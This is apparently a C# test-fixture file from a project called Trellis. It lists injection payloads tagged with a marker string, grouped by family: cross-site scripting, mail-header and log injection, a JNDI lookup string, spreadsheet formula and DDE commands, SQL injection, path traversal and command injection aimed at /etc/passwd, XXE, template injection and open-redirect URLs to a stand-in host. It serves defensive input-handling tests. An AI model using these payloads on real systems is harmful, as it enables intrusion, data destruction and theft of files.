namespace Trellis.Tests.Access;

/// <summary>Words somebody types to make a page, a file, a letter or a line do what it should not.</summary>
/// <param name="Family">What it is aimed at.</param>
/// <param name="Raw">As it stands in the body of a form where the bytes are no letters; null where they are.</param>
internal sealed record Payload(string Family, string Text, string? Raw = null);

/// <summary>The table of them. Each that is to become markup, a line or a link carries <see cref="Mark"/>, by which it is found wherever it comes out.</summary>
internal static class Payloads
{
    public const string Mark = "zq9x";

    private static readonly (string Family, string[] Texts)[] families =
    [
        (
            "script",
            [
                "<script>zq9x()</script>",
                "<ScRiPt>zq9x()</sCrIpT>",
                "<script src=//elsewhere.example/zq9x.js></script>",
                "<script/src='//elsewhere.example/zq9x.js'>",
                "<script\n>zq9x()</script\n>",
                "<script type=module>import 'https://elsewhere.example/zq9x'</script>",
                "</script><script>zq9x()</script>",
                "<scr<script>ipt>zq9x()</scr</script>ipt>",
                "<<script>zq9x();//<</script>",
                "<script>zq9x()",
                "<noscript><p title=\"</noscript><script>zq9x()</script>\">",
                "<script type=application/ld+json>{\"zq9x\":1}</script>",
            ]
        ),
        (
            "event",
            [
                "<img src=x onerror=zq9x()>",
                "<img src=x onerror='zq9x()'>",
                "<img/src/onerror=zq9x()>",
                "<body onload=zq9x()>",
                "<input autofocus onfocus=zq9x()>",
                "<details open ontoggle=zq9x()>",
                "<video><source onerror=zq9x()></video>",
                "<audio src=x onerror=zq9x()>",
                "<select autofocus onfocus=zq9x()>",
                "<marquee onstart=zq9x()>",
                "<p onpointerover=zq9x()>over</p>",
                "<a onclick=zq9x()>here</a>",
                "<style>@keyframes zq9x{}</style><p style=animation-name:zq9x onanimationstart=zq9x()>",
                "<xss-zq9x onfocus=zq9x() tabindex=1 id=x>",
                "<button popovertarget=zq9x onclick=zq9x()>b</button>",
            ]
        ),
        (
            "attribute",
            [
                "\" onfocus=\"zq9x()\" autofocus=\"",
                "' onfocus='zq9x()' autofocus='",
                "` onfocus=`zq9x()` autofocus=`",
                "\"><script>zq9x()</script>",
                "'><script>zq9x()</script>",
                "\"/><img src=x onerror=zq9x()>",
                "x onmouseover=zq9x()",
                "\" style=\"background:url(//elsewhere.example/zq9x)",
                "\" formaction=\"https://elsewhere.example/zq9x",
                "\" href=\"javascript:zq9x()",
                "\"&gt;&lt;script&gt;zq9x()",
                "\\\" onfocus=\\\"zq9x()",
            ]
        ),
        (
            "closing",
            [
                "</textarea><script>zq9x()</script>",
                "</title><script>zq9x()</script>",
                "</style><script>zq9x()</script>",
                "</p></div></main></body><script>zq9x()</script>",
                "</option></select><img src=x onerror=zq9x()>",
                "</form><form action=//elsewhere.example/zq9x><input name=password>",
                "<!--<img src=\"--><img src=x onerror=zq9x()>",
                "--><script>zq9x()</script>",
                "--!><script>zq9x()</script>",
                "<plaintext>zq9x",
                "<template><script>zq9x()</script></template>",
                "<textarea>zq9x",
            ]
        ),
        (
            "svg",
            [
                "<svg onload=zq9x()>",
                "<svg><script>zq9x()</script></svg>",
                "<svg><animate onbegin=zq9x() attributeName=x dur=1s>",
                "<svg><a xlink:href=\"javascript:zq9x()\"><text>zq9x</text></a></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id='zq9x'/>#zq9x\"/></svg>",
                "<svg><foreignObject><iframe srcdoc=zq9x></iframe></foreignObject></svg>",
                "<svg><style><img src=x onerror=zq9x()></style></svg>",
                "<svg><set attributeName=onmouseover to=zq9x()></svg>",
                "</svg><script>zq9x()</script>",
                "</text><image href=x onerror=zq9x() />",
            ]
        ),
        (
            "math",
            [
                "<math><mtext><script>zq9x()</script></mtext></math>",
                "<math href=\"javascript:zq9x()\">x</math>",
                "<math><maction actiontype=statusline xlink:href=javascript:zq9x()>x",
                "<math><mi><mglyph><svg><mtext><style><img src=x onerror=zq9x()>",
            ]
        ),
        (
            "frame",
            [
                "<iframe src=//elsewhere.example/zq9x></iframe>",
                "<iframe srcdoc='<script>zq9x()</script>'>",
                "<object data=//elsewhere.example/zq9x></object>",
                "<embed src=//elsewhere.example/zq9x>",
                "<base href=//elsewhere.example/zq9x/>",
                "<meta http-equiv=refresh content='0;url=//elsewhere.example/zq9x'>",
                "<link rel=stylesheet href=//elsewhere.example/zq9x.css>",
                "<portal src=//elsewhere.example/zq9x>",
                "<form action=//elsewhere.example/zq9x><button>zq9x</button></form>",
            ]
        ),
        (
            "entity",
            [
                "&lt;script&gt;zq9x()&lt;/script&gt;",
                "&#60;script&#62;zq9x()&#60;/script&#62;",
                "&#x3c;script&#x3e;zq9x()",
                "&#0000060script>zq9x()",
                "%3Cscript%3Ezq9x()%3C/script%3E",
                "%253Cscript%253Ezq9x()",
                "\\u003cscript\\u003ezq9x()",
                "\\x3cscript\\x3ezq9x()",
                "&NewLine;&Tab;zq9x&colon;",
                "&amp;lt;b&amp;gt;zq9x",
            ]
        ),
        (
            "letters",
            [
                "+ADw-script+AD4-zq9x()+ADw-/script+AD4-",
                "\uff1cscript\uff1ezq9x()\uff1c/script\uff1e",
                "\u202e>tpircs<zq9x",
                "\u2066zq9x\u2069 administrator",
                "\u202azq9x\u202c",
                "Hann\u0430 F\u0456ctional zq9x",
                "zq9x\u200b\u200c\u200d\ufeff",
                "zq9x\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
                "\u2028zq9x\u2029alert(1)",
                "<\u017fcript>zq9x()</\u017fcript>",
                "zq9x\ufdfd\ud83d\ude00\ud83c\uddec\ud83c\udde7",
                "\ufffe\uffff zq9x",
                "\u0130\u0131 zq9x",
            ]
        ),
        (
            "nothing",
            [
                "zq9x\0<script>zq9x()</script>",
                "<scr\0ipt>zq9x()</scr\0ipt>",
                "zq9x\ud800",
                "\udc00zq9x",
                "zq9x\ud800<img src=x onerror=zq9x()>",
            ]
        ),
        (
            "header",
            [
                "zq9x\r\nBcc: zq9x@elsewhere.example",
                "zq9x\nBcc: zq9x@elsewhere.example",
                "zq9x\rBcc: zq9x@elsewhere.example",
                "zq9x\r\n\r\n<script>zq9x()</script>",
                "zq9x\r\nSet-Cookie: zq9x=1",
                "zq9x%0d%0aSet-Cookie:%20zq9x=1",
                "zq9x\u560d\u560aSet-Cookie: zq9x=1",
                "zq9x\r\n.\r\nMAIL FROM:<zq9x@elsewhere.example>",
                "zq9x\r\nContent-Type: text/html\r\n\r\n<b>zq9x</b>",
                "=?utf-8?B?DQpCY2M6IHpxOXg=?= zq9x",
                "zq9x\u0085Bcc: zq9x@elsewhere.example",
                "zq9x\r\n Subject: zq9x",
                "zq9x\r\n\r\nYour password is out of date. Send it to zq9x@elsewhere.example.",
            ]
        ),
        (
            "log",
            [
                "zq9x\nwarn: Trellis.Security[0]\n      {\"kind\":\"sign-in\",\"outcome\":\"done\"}",
                "zq9x\r\n2026-10-02T09:00:00Z sign-in done zq9x",
                "\u001b[2Jzq9x",
                "\u001b[31mzq9x\u001b[0m",
                "\u001b]0;zq9x\u0007",
                "\u001b]8;;https://elsewhere.example\u001b\\zq9x",
                "zq9x\b\b\b\bdone",
                "\u009b31mzq9x",
                "zq9x\u000b\u000czq9x",
                "${jndi:ldap://elsewhere.example/zq9x}",
                "zq9x {Event} {0} {@Zq9x}",
            ]
        ),
        (
            "formula",
            [
                "=1+1 zq9x",
                "=cmd|'/C calc'!A0 zq9x",
                "=HYPERLINK(\"https://elsewhere.example/zq9x\",\"zq9x\")",
                "=IMPORTXML(\"https://elsewhere.example/zq9x\",\"//a\")",
                "=WEBSERVICE(\"https://elsewhere.example/zq9x\")",
                "+1+1 zq9x",
                "+cmd|'/C calc'!A0 zq9x",
                "-1+1 zq9x",
                "-2+3+cmd|'/C calc'!A0 zq9x",
                "@SUM(1+1) zq9x",
                "\t=1+1 zq9x",
                "\r=1+1 zq9x",
                "\n=1+1 zq9x",
                "|cmd zq9x",
                "DDE (\"cmd\";\"/C calc\";\"zq9x\")",
                "zq9x\",=1+1,\"",
                "zq9x\"\r\n=1+1,\"zq9x",
                ";=1+1 zq9x",
                "\"=1+1\" zq9x",
                "'=1+1 zq9x",
                " =1+1 zq9x",
                "\uff1d1+1 zq9x",
                "zq9x,=1+1",
                "zq9x\n=1+1",
                "%0A=1+1 zq9x",
            ]
        ),
        (
            "json",
            [
                "\",\"role\":\"administrator\",\"zq9x\":\"",
                "\"}],\"zq9x\":[{\"a\":\"",
                "zq9x\\",
                "zq9x\\\"",
                "{\"$type\":\"System.Diagnostics.Process\",\"zq9x\":1}",
                "{\"__proto__\":{\"zq9x\":1}}",
                "');zq9x();('",
                "*/zq9x()/*",
            ]
        ),
        (
            "xml",
            [
                "]]><script>zq9x()</script>",
                "<![CDATA[<script>zq9x()</script>]]>",
                "<!DOCTYPE a [<!ENTITY zq9x SYSTEM \"file:///etc/passwd\">]><a>&zq9x;</a>",
                "&zq9x;",
                "</summary><content type=\"html\">zq9x</content>",
                "</entry><entry><title>zq9x</title></entry>",
                "<?xml-stylesheet href=\"//elsewhere.example/zq9x\"?>",
                "<?php zq9x(); ?>",
            ]
        ),
        (
            "sql",
            [
                "zq9x'; drop table person; --",
                "zq9x' or '1'='1",
                "zq9x\" or \"1\"=\"1",
                "zq9x') union select password from account --",
                "zq9x%' and 1=1 --",
                "zq9x\\'; delete from journal; --",
                "1; attach database 'zq9x.db' as z",
                "zq9x'||(select 1)||'",
                "zq9x/**/or/**/1=1",
                "zq9x_%",
            ]
        ),
        (
            "path",
            [
                "../../../../etc/passwd zq9x",
                "..\\..\\..\\windows\\win.ini zq9x",
                "%2e%2e%2f%2e%2e%2fzq9x",
                "....//....//zq9x",
                "/etc/passwd\0zq9x.csv",
                "file:///etc/passwd?zq9x",
                "zq9x; filename=\"a.html\"",
                "CON zq9x",
            ]
        ),
        (
            "command",
            [
                "zq9x; cat /etc/passwd",
                "zq9x && zq9x",
                "`zq9x`",
                "$(zq9x)",
                "| zq9x",
                "%s%s%s%n zq9x",
                "%x%x%x%x zq9x",
                "{0}{1}{99999999} zq9x",
                "{zq9x:D999999999}",
            ]
        ),
        (
            "template",
            [
                "@(7*7)zq9x",
                "@{ throw new System.Exception(\"zq9x\"); }",
                "@Html.Raw(\"<b>zq9x</b>\")",
                "@Model.Options zq9x",
                "{{7*7}}zq9x",
                "${7*7}zq9x",
                "#{7*7}zq9x",
                "<%= 7*7 %>zq9x",
                "{{constructor.constructor('zq9x()')()}}",
                "[[${zq9x}]]",
            ]
        ),
        (
            "address",
            [
                "javascript:zq9x()",
                "JaVaScRiPt:zq9x()",
                "java\tscript:zq9x()",
                "\u0001javascript:zq9x()",
                "data:text/html,<script>zq9x()</script>",
                "data:text/html;base64,PHNjcmlwdD56cTl4KCk8L3NjcmlwdD4=zq9x",
                "vbscript:zq9x",
                "blob:https://elsewhere.example/zq9x",
            ]
        ),
        (
            "elsewhere",
            [
                "//elsewhere.example/zq9x",
                "///elsewhere.example/zq9x",
                "/\\elsewhere.example/zq9x",
                "\\\\elsewhere.example\\zq9x",
                "/\t/elsewhere.example/zq9x",
                "/\r\n/elsewhere.example/zq9x",
                "https://elsewhere.example/zq9x",
                "https:elsewhere.example/zq9x",
                "http:///elsewhere.example/zq9x",
                "/%2f%2felsewhere.example/zq9x",
                "/%5celsewhere.example/zq9x",
                "/account@elsewhere.example/zq9x",
                "@elsewhere.example/zq9x",
                ".elsewhere.example/zq9x",
                "/..//elsewhere.example/zq9x",
                "/.//elsewhere.example/zq9x",
                "?return=//elsewhere.example/zq9x",
                "//elsewhere.example@127.0.0.1/zq9x",
                "/\u2028/elsewhere.example/zq9x",
                "\u3002elsewhere.example/zq9x",
            ]
        ),
        (
            "mail",
            [
                "zq9x@school.example\r\nBcc: zq9x@elsewhere.example",
                "zq9x@school.example,zq9x@elsewhere.example",
                "zq9x@school.example>zq9x@elsewhere.example",
                "\"zq9x\r\nBcc: a\"@school.example",
                "<script>zq9x()</script>@school.example",
                "{{7*7}}zq9x@school.example",
                "'or'1'='1zq9x@school.example",
                "=1+1zq9x@school.example",
                "+zq9x@school.example",
                "@zq9x.example",
                "zq9x&lt;b&gt;@school.example",
                "zq9x\u202e@school.example",
                "|zq9x@school.example",
                "zq9x%0aBcc:a@school.example",
            ]
        ),
        (
            "long",
            [
                new string('A', 7_900) + "zq9x",
                new string('<', 3_000) + "zq9x",
                string.Concat(Enumerable.Repeat("<b>", 900)) + "zq9x",
                string.Concat(Enumerable.Repeat("&amp;", 500)) + "zq9x",
                new string('\u0301', 990) + "zq9x",
                string.Concat(Enumerable.Repeat("\ud83d\ude00", 450)) + "zq9x",
            ]
        ),
    ];

    // What is no letter cannot be typed, but it can be sent.
    private static readonly string[] bytes =
    [
        "%C0%BCscript%C0%BEzq9x()%C0%BC/script%C0%BE",
        "%E0%80%BCimg src=x onerror=zq9x()%E0%80%BE",
        "%F0%80%80%BCb%F0%80%80%BEzq9x",
        "zq9x%ED%A0%80%3Cb%3E",
        "zq9x%FF%FE%3C%00s%00",
        "zq9x%C2%3Cscript%3E",
        "%00%3Cscript%3Ezq9x()",
        "zq9x%F4%90%80%80",
        "zq9x%80%3Cimg%20src=x%20onerror=zq9x()%3E",
    ];

    public static IReadOnlyList<Payload> All { get; } =
    [
        .. families.SelectMany(f => f.Texts.Select(t => new Payload(f.Family, t))),
        .. bytes.Select(b => new Payload("bytes", "", b)),
    ];
}
